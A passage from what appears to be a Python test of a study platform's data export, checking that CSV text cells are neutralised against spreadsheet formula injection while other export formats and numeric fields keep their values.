        submitted = app_client.post(f"/api/v1/me/surveys/{survey}/submit", headers=who.headers, json=answers)
        assert submitted.status_code == 200, submitted.text
        # Stored as the text validator leaves it (a CR becomes a line break); messages and decisions stripped.
        stored = validation.text(payload)
        written["turns"].append(stored.strip())
        written["decisions"].append(stored.strip())
        written["responses_goal_progress"].append(stored)
    conversation = builders.start_chat(app_client, who, None)
    builders.say(app_client, who, conversation, "I feel hopeless and awful")  # a negative sentiment: a number below 0
    token = make_staff(engine, slug, StaffRole.RESEARCHER, "r@uni.example")
    staff = {"Authorization": f"Bearer {token}"}
    path = f"/api/v1/staff/studies/{slug}/exports"

    files = unzip(app_client.get(path, params={"format": "csv", "turns": "true"}, headers=staff))
    package = json.loads(files["datapackage.json"])
    for resource in package["resources"]:
        rows = list(csv.DictReader(io.StringIO(files[resource["path"]].decode("utf-8"), newline="")))
        for field in resource["schema"]["fields"]:
            cells = [row[field["name"]] for row in rows if row[field["name"]] != ""]
            if field["type"] in ("integer", "number"):
                [float(cell) for cell in cells]  # numbers stay numbers
            else:
                assert not [c for c in cells if formula_like(c)], (resource["path"], field["name"])
    for table, column in (("turns", "content"), ("decisions", "text"), ("responses_goal_progress", "note")):
        rows = list(csv.DictReader(io.StringIO(files[f"{table}.csv"].decode("utf-8"), newline="")))
        # Undone as the README says (the first apostrophe off), each cell is what was written.
        cells = [row[column][1:] if row[column].startswith("'") else row[column] for row in rows]
        assert set(written[table]) <= set(cells), table
    conversations = list(csv.DictReader(io.StringIO(files["conversations.csv"].decode("utf-8"))))
    assert min(float(row["first_message_sentiment"]) for row in conversations) < 0
    assert "Text cells of the CSV files are safe to open in a spreadsheet" in files["README.md"].decode()

    # The other formats keep the text as written.
    for export_format in ("parquet", "spss", "stata"):
        result = export_study(engine, slug, tmp_path / export_format, format=export_format, turns=True,
                              actor=ACTOR)
        for table, column in (("turns", "content"), ("decisions", "text"), ("responses_goal_progress", "note")):
            assert set(written[table]) <= set(read_back(result, table)[column].dropna()), (export_format, table)

    # The aggregate export is CSV too: nothing in it starts a formula either.
    aggregates = unzip(app_client.get(path, params={"format": "aggregates"}, headers=staff))
    for name, content in aggregates.items():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
            assert not [c for c in cells if formula_like(c) and not re.fullmatch(r"-?\d+(\.\d+)?", c)], name
